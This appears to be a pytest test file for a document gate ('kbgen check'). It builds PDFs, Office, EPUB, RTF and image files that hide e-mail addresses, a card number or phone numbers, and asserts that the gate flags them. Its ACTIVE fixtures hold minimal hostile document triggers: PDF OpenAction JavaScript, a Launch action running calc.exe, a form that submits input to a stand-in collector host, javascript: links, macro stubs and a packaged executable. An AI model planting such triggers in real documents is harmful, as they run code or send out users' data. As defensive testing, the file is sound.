"""Hostile review 44: what copied documents hide from a gate that reads their bytes.

A PDF printed from a browser, a word processor or TeX draws its text in subset fonts: the
strings are glyph numbers, readable only through each font's `/ToUnicode` map. Every hostile
file sits in one project, checked once (`kbgen check`, no build): each must be named with the
kind of data or the reason it is refused; the benign files beside them must not be named.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest

from tests.conftest import MINI_CATEGORIES, MINI_CONFIG, article, write_files
from tests.helpers import run_cli

HERE = Path(__file__).parent
EMAIL = "jane.private@gmail.com"
CARD = "4539 1488 0343 6467"


# --------------------------------------------------------------------- PDF builders


def pdf(objects: dict[int, bytes | tuple[bytes, bytes]]) -> bytes:
    """A PDF of numbered objects: a dictionary, or (dictionary, stream body), compressed."""
    out = b"%PDF-1.7\n"
    for number, value in objects.items():
        if isinstance(value, tuple):
            dictionary, body = value
            packed = zlib.compress(body)
            out += (b"%d 0 obj\n<<%s /Filter /FlateDecode /Length %d>>\nstream\n"
                    % (number, dictionary, len(packed)) + packed + b"\nendstream\nendobj\n")
        else:
            out += b"%d 0 obj\n%s\nendobj\n" % (number, value)
    return out + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def glyph(character: str, width: int = 2) -> bytes:
    """A subset font's code for `character`: a number unrelated to the character's."""
    return ((ord(character) * 7 + 3) % (256 ** width)).to_bytes(width, "big")


def drawn(text: str, width: int = 2) -> bytes:
    """`text` as a subset font's hex string."""
    return b"<" + b"".join(glyph(c, width) for c in text).hex().upper().encode() + b">"


def to_unicode(text: str, width: int = 2, ranges: bool = False) -> bytes:
    """A `/ToUnicode` CMap for the characters of `text` (bfchar, or one-code bfranges with
    an array, as Ghostscript writes them)."""
    characters = sorted(set(text))
    if ranges:
        entries = b"".join(b"<%s> <%s> [<%s>]\n" % (glyph(c, width).hex().encode(),
                                                      glyph(c, width).hex().encode(),
                                                      c.encode("utf-16-be").hex().encode())
                           for c in characters)
        block = b"%d beginbfrange\n%sendbfrange\n" % (len(characters), entries)
    else:
        entries = b"".join(b"<%s> <%s>\n" % (glyph(c, width).hex().encode(),
                                             c.encode("utf-16-be").hex().encode())
                           for c in characters)
        block = b"%d beginbfchar\n%sendbfchar\n" % (len(characters), entries)
    return (b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
            b"1 begincodespacerange <0000> <FFFF> endcodespacerange\n" + block
            + b"endcmap CMapName currentdict /CMap defineresource pop end end\n")


def page_pdf(content: bytes, fonts: dict[int, bytes], maps: dict[int, bytes],
             resources: bytes = b"/Font << /F1 4 0 R /F2 5 0 R >>") -> bytes:
    """One page drawing `content` with fonts 4 and 5 (`fonts`: their dictionaries) and
    character maps (`maps`: object number -> CMap)."""
    objects: dict[int, bytes | tuple[bytes, bytes]] = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /Resources << %s >> /Contents 6 0 R >>" % resources,
        6: (b"", content),
    }
    objects.update(fonts)
    objects.update({number: (b"", cmap) for number, cmap in maps.items()})
    return pdf(objects)


def type0(to_unicode_ref: int | None, encoding: bytes = b"/Identity-H") -> bytes:
    mapped = b" /ToUnicode %d 0 R" % to_unicode_ref if to_unicode_ref else b""
    return (b"<< /Type /Font /Subtype /Type0 /BaseFont /AAAAAA+Sans /Encoding %s"
            b" /DescendantFonts [9 0 R]%s >>" % (encoding, mapped))


def line(*runs: tuple[bytes, bytes]) -> bytes:
    """A text object drawing each (font name, hex string) run on one line."""
    return (b"BT 72 700 Td " + b" ".join(b"/%s 12 Tf %s Tj" % run for run in runs)
            + b" ET\n")


SENTENCE = f"Write to {EMAIL} today"
NAMES = {"@": "at", ".": "period", " ": "space"}


def renamed_pdf(text: str) -> bytes:
    """A simple font whose `/Differences` give codes 1, 2, ... glyph names (TeX's Type 3
    fonts, subset Type 1 fonts): the strings' bytes are not the characters."""
    characters = sorted(set(text))
    names = b" ".join(b"/" + NAMES.get(c, c).encode() for c in characters)
    codes = bytes(characters.index(c) + 1 for c in text)
    return page_pdf(line((b"F1", b"<" + codes.hex().encode() + b">")),
                    {4: b"<< /Type /Font /Subtype /Type3 /Encoding 12 0 R >>", 5: type0(None,
                                                                                  b"/UniGB-UTF16-H"),
                     12: b"<< /Type /Encoding /Differences [1 %s] >>" % names}, {})


def object_stream_pdf() -> bytes:
    """Resources by reference (`/Font 10 0 R`), the font and resources packed in a compressed
    object stream, as PDF 1.5 writers do."""
    packed = [(10, b"<< /F1 4 0 R >>"), (4, type0(7))]
    offsets, at = [], 0
    for number, text in packed:
        offsets.append(b"%d %d" % (number, at))
        at += len(text) + 1
    index = b" ".join(offsets) + b" "
    return pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        3: b"<< /Type /Page /Resources << /Font 10 0 R >> /Contents 6 0 R >>",
        6: (b"", line((b"F1", drawn(SENTENCE)))),
        7: (b"", to_unicode(SENTENCE)),
        11: (b" /Type /ObjStm /N 2 /First %d" % len(index),
             index + b"\n".join(text for _, text in packed)),
    })


PDFS = {
    # name: (file, what `kbgen check` must say of it)
    "chrome-letter.pdf": ((HERE / "chrome-letter.pdf").read_bytes(), "e-mail address"),
    "identity-bfchar.pdf": (page_pdf(line((b"F1", drawn(SENTENCE))),
                                     {4: type0(7), 5: type0(7)}, {7: to_unicode(SENTENCE)}),
                            "e-mail address"),
    "identity-bfrange.pdf": (page_pdf(line((b"F1", drawn(f"Card {CARD}"))),
                                      {4: type0(7), 5: type0(7)},
                                      {7: to_unicode(f"Card {CARD}", ranges=True)}),
                             "payment card number"),
    "one-byte-subset.pdf": (page_pdf(line((b"F1", drawn(SENTENCE, 1))),
                                     {4: b"<< /Type /Font /Subtype /TrueType /ToUnicode 7 0 R >>",
                                      5: type0(7)},
                                     {7: to_unicode(SENTENCE, 1)}), "e-mail address"),
    # the address's middle in a bold font: two maps, one word on the page
    "two-fonts-one-word.pdf": (page_pdf(line((b"F1", drawn("Write to jane.")),
                                             (b"F2", drawn("private@gmail.com", 1))),
                                        {4: type0(7), 5: b"<< /Subtype /TrueType"
                                                         b" /ToUnicode 8 0 R >>"},
                                        {7: to_unicode("Write to jane."),
                                         8: to_unicode("private@gmail.com", 1)}),
                               "e-mail address"),
    # resources by reference, the font in a compressed object stream
    "object-stream.pdf": (object_stream_pdf(), "e-mail address"),
    "ucs2-encoding.pdf": (page_pdf(line((b"F1", b"<" + SENTENCE.encode("utf-16-be").hex()
                                         .encode() + b">")),
                                   {4: type0(None, b"/UniJIS-UCS2-H"), 5: type0(None,
                                                                           b"/UniJIS-UCS2-H")},
                                   {}), "e-mail address"),
    "differences-names.pdf": (renamed_pdf(SENTENCE), "e-mail address"),
    "no-map.pdf": (page_pdf(line((b"F1", drawn(SENTENCE))), {4: type0(None), 5: type0(None)},
                            {}), "has no map to characters (/ToUnicode)"),
}
BENIGN = {
    "benign-subset.pdf": page_pdf(line((b"F1", drawn("Turn the thermostat off and on"))),
                                  {4: type0(7), 5: type0(7)},
                                  {7: to_unicode("Turn the thermostat off and on")}),
}


# --------------------------------------------------------------------- code a document runs


def zipped(members: dict[str, bytes]) -> bytes:
    """A zip archive (an Office, OpenDocument or EPUB file is one) of `members`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def catalog_pdf(catalog_extra: bytes, packed: bytes = b"") -> bytes:
    """A one-page PDF whose catalog (or, given `packed`, an object in a compressed object
    stream) holds an action."""
    objects: dict[int, bytes | tuple[bytes, bytes]] = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog_extra,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /Contents 6 0 R >>",
        6: (b"", b"BT /F1 12 Tf (Turn it off and on) Tj ET"),
    }
    if packed:
        index = b"20 0 "
        objects[21] = (b" /Type /ObjStm /N 1 /First %d" % len(index), index + packed)
    return pdf(objects)


DOCX_PARTS = {"[Content_Types].xml": b"<Types/>",
              "word/document.xml": b"<w:document><w:t>Reset the hub.</w:t></w:document>"}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
ACTIVE = {
    "pdf-open-javascript.pdf": (catalog_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
                                "holds JavaScript, which a PDF reader runs"),
    "pdf-escaped-name.pdf": (catalog_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
                             "holds JavaScript"),
    "pdf-packed-action.pdf": (catalog_pdf(b"/OpenAction 20 0 R",
                                          b"<< /S /Launch /F (calc.exe) >>"),
                              "holds an action that starts a program"),
    "pdf-submit-form.pdf": (catalog_pdf(b"/AcroForm << /Fields [] >> /AA << /WC << /S"
                                        b" /SubmitForm /F (https://collect.example/) >> >>"),
                            "holds a form that sends what is typed into it"),
    "pdf-script-link.pdf": (catalog_pdf(b"/OpenAction << /S /URI /URI (javascript:alert(1)) >>"),
                            "has a link to a javascript: or data: address"),
    "macro-saved-as.docx": (zipped({**DOCX_PARTS, "word/vbaProject.bin": OLE}),
                            "word/vbaProject.bin is a macro"),
    "macro-sheet.xlsx": (zipped({"[Content_Types].xml": b"<Types/>",
                                 "xl/workbook.xml": b"<workbook/>",
                                 "xl/vbaProject.bin": OLE}), "xl/vbaProject.bin is a macro"),
    "basic-macro.odt": (zipped({"mimetype": b"application/vnd.oasis.opendocument.text",
                                "content.xml": b"<office:text>Hi</office:text>",
                                "Basic/Standard/Module1.xml": b"<script:module>Sub Main"
                                                              b"</script:module>"}),
                        "Basic/Standard/Module1.xml is a macro"),
    "scripted.epub": (zipped({"mimetype": b"application/epub+zip",
                              "OEBPS/ch1.xhtml": b"<html><body onload=\"go()\">Hi</body></html>"}),
                      "OEBPS/ch1.xhtml has a script or event handler"),
    "packaged-program.docx": (zipped({**DOCX_PARTS, "word/embeddings/oleObject1.bin":
                                      OLE + "\x01Ole10Native".encode("utf-16-le")
                                      + b"\x00" * 64 + b"setup.exe\x00MZ\x90\x00"}),
                              "packages a file (an OLE Package)"),
    "old-macros.doc": (OLE + "Macros_VBA_PROJECT".encode("utf-16-le") + b"\x00" * 64,
                       "holds macros (a VBA project)"),
    "embedded-object.rtf": (b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}",
                            "embeds an object"),
}
BENIGN.update({
    "benign-link.pdf": catalog_pdf(b"/Outlines << /First << /A << /S /URI"
                                   b" /URI (https://help.example/) >> >> >>"),
    "benign.docx": zipped({**DOCX_PARTS, "word/embeddings/Microsoft_Excel_Worksheet.xlsx":
                           zipped({"[Content_Types].xml": b"<Types/>",
                                   "xl/workbook.xml": b"<workbook/>"})}),
    "benign.odt": zipped({"mimetype": b"application/vnd.oasis.opendocument.text",
                          "content.xml": b"<office:text>Hi</office:text>",
                          "Basic/script-lc.xml": b"<library:libraries/>",
                          "Basic/Standard/script-lb.xml": b"<library:library/>"}),
    "benign.epub": zipped({"mimetype": b"application/epub+zip",
                           "OEBPS/ch1.xhtml": b"<html><body>Turn it on.</body></html>"}),
    "benign.rtf": b"{\\rtf1 Turn the hub off and on.}",
    # a plain archive: no program runs its members by opening it (a wheel's scripts and
    # pages, a folder of sources that mentions vbaProject.bin)
    "benign-sources.zip": zipped({"tool/scripts/run.py": b"print('hi')\n",
                                  "tool/docs/page.html": b"<script>go()</script>",
                                  "tool/Basic/Standard/Module1.xml": b"<notes/>",
                                  "tool/vbaProject.bin": b"not office"}),
})


# --------------------------------------------------------------------- colour profiles


def icc(description: str, copyright_text: str = "Public Domain", wide: bool = False) -> bytes:
    """An ICC colour profile whose `desc` tag (textDescriptionType, or UTF-16 `mluc` as
    version 4 profiles write it) and `cprt` tag say the given text."""
    if wide:
        encoded = description.encode("utf-16-be")
        desc = (b"mluc\x00\x00\x00\x00" + struct.pack(">II", 1, 12)
                + b"enUS" + struct.pack(">II", len(encoded), 28) + encoded)
    else:
        desc = (b"desc\x00\x00\x00\x00" + struct.pack(">I", len(description) + 1)
                + description.encode() + b"\x00" * 80)
    cprt = b"text\x00\x00\x00\x00" + copyright_text.encode() + b"\x00"
    tags, table, body = [(b"desc", desc), (b"cprt", cprt)], b"", b""
    offset = 128 + 4 + 12 * len(tags)
    for signature, element in tags:
        table += signature + struct.pack(">II", offset + len(body), len(element))
        body += element + b"\x00" * (-len(element) % 4)
    header = (struct.pack(">I", offset + len(body)) + b"lcms\x04\x30\x00\x00mntrRGB XYZ "
              + b"\x00" * 12 + b"acspAPPL" + b"\x00" * 84)
    return header + struct.pack(">I", len(tags)) + table + body


def png_with_profile(profile: bytes) -> bytes:
    """A 1x1 PNG whose `iCCP` chunk holds `profile`, compressed."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"iCCP", b"Display\x00\x00" + zlib.compress(profile))
            + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b""))


def jpeg_with_profile(profile: bytes) -> bytes:
    """A JPEG whose APP2 segments hold `profile` in two parts, as cameras and editors split
    large profiles."""
    half = len(profile) // 2
    parts = [profile[:half], profile[half:]]
    segments = b"".join(b"\xff\xe2" + struct.pack(">H", 16 + len(part)) + b"ICC_PROFILE\x00"
                        + bytes([number + 1, 2]) + part for number, part in enumerate(parts))
    return b"\xff\xd8" + segments + b"\xff\xda\x00\x02\xff\xd9"


def webp_with_profile(profile: bytes) -> bytes:
    """A WebP (extended format) with an `ICCP` chunk."""
    chunks = (b"VP8X" + struct.pack("<I", 10) + b"\x20" + b"\x00" * 9
              + b"ICCP" + struct.pack("<I", len(profile)) + profile + b"\x00" * (len(profile) % 2))
    return b"RIFF" + struct.pack("<I", 4 + len(chunks)) + b"WEBP" + chunks


def tiff_with_profile(profile: bytes) -> bytes:
    """A TIFF (a camera's or scanner's) whose tag 34675 holds an ICC profile."""
    entry = struct.pack("<HHII", 34675, 7, len(profile), 26)
    return b"II*\x00" + struct.pack("<IH", 8, 1) + entry + b"\x00\x00\x00\x00" + profile


PROFILES = {
    "profiled.png": png_with_profile(icc(f"Calibrated for {EMAIL}")),
    "profiled.jpg": jpeg_with_profile(icc(f"Monitor of {EMAIL}", wide=True)),
    "profiled.webp": webp_with_profile(icc(f"Printer of {EMAIL}")),
    "profiled.jpeg": b"\xff\xd8\xff\xe1" + struct.pack(">H", 8 + len(tiff_with_profile(
        icc(f"Scanner of {EMAIL}")))) + b"Exif\x00\x00" + tiff_with_profile(
            icc(f"Scanner of {EMAIL}")) + b"\xff\xda\x00\x02\xff\xd9",
}
BENIGN.update({
    "benign-profile.png": png_with_profile(icc("sRGB IEC61966-2.1",
                                               "Copyright (c) 1998 Hewlett-Packard Company")),
    "benign-profile.jpg": jpeg_with_profile(icc("Display P3", "Copyright Apple Inc., 2017",
                                                wide=True)),
})


# --------------------------------------------------------------------- settings pages show

SETTINGS = MINI_CONFIG + """extra:
  kb:
    team_groups: [Team leads, "After hours: +44 7911 264801 (Jane's mobile)"]
    messages:
      "Still need help?": "Still stuck? Write to jane.private@gmail.com"
      "Who is who":
        de: Unser Team
        en: "Our team (night line +44 7911 123456)"
markdown_extensions:
  - toc:
      permalink: true
      permalink_title: "Ask mary.kline@gmail.com"
  - footnotes:
      BACKLINK_TITLE: "Back, or write to tom.riley@gmail.com (%d)"
"""
"""Text pages show, given in mkdocs.yml: the site's wording of kbgen's messages (on every
page), the team page's group headings, and Markdown extensions' options (a heading link's
title, a footnote's back link)."""


def check_copied(root: Path, settings: str, copied: dict[str, bytes]) -> str:
    """`kbgen check` (which must fail) of a small project whose `content/files/` holds
    `copied`: what it says."""
    write_files(root, {"mkdocs.yml": settings, "content/index.md": "# Home\n",
                       "content/_data/categories.yml": MINI_CATEGORIES,
                       "content/articles/billing/ok.md": article("Fine article"),
                       **{f"content/files/{name}": data for name, data in copied.items()}})
    result = run_cli("check", cwd=root)
    assert result.returncode == 1, result.stdout
    return result.stdout + result.stderr


@pytest.fixture(scope="module")
def checked(tmp_path_factory: pytest.TempPathFactory) -> str:
    """`kbgen check` of one project holding every hostile and benign file."""
    return check_copied(tmp_path_factory.mktemp("hostile44"), SETTINGS, {
        **{name: data for name, (data, _) in PDFS.items()}, **BENIGN,
        **{name: data for name, (data, _) in ACTIVE.items()}, **PROFILES})


@pytest.mark.parametrize("name", sorted(PDFS))
def test_text_drawn_in_subset_fonts_is_read(checked: str, name: str) -> None:
    expected = PDFS[name][1]
    said = [line for line in checked.splitlines() if line.startswith(f"content/files/{name}:")]
    assert any(expected in line for line in said), (name, said or checked)


def test_text_in_subset_fonts_without_data_passes(checked: str) -> None:
    assert not [line for line in checked.splitlines() if "benign" in line]


@pytest.mark.parametrize("name", sorted(ACTIVE))
def test_documents_carrying_code_are_refused(checked: str, name: str) -> None:
    expected = ACTIVE[name][1]
    said = [line for line in checked.splitlines() if line.startswith(f"content/files/{name}:")]
    assert any(expected in line for line in said), (name, said or checked)


@pytest.mark.parametrize("name", sorted(PROFILES))
def test_colour_profile_text_is_read(checked: str, name: str) -> None:
    """A picture's ICC profile is named by whoever made it (`Jane's MacBook`, a monitor's
    calibration): its text tags are published with the picture."""
    said = [line for line in checked.splitlines() if line.startswith(f"content/files/{name}:")]
    assert any("e-mail address" in line for line in said), (name, said or checked)


@pytest.mark.parametrize("value, kind", [("7911 264801", "phone number"),
                                         (EMAIL, "e-mail address"),
                                         ("7911 123456", "phone number"),
                                         ("mary.kline", "e-mail address"),
                                         ("tom.riley", "e-mail address")])
def test_text_pages_show_from_settings_is_read(checked: str, value: str,
                                               kind: str) -> None:
    line = next(number for number, text in enumerate(SETTINGS.splitlines(), 1) if value in text)
    assert any(said.startswith(f"mkdocs.yml:{line}: error: {kind}")
               for said in checked.splitlines()), checked
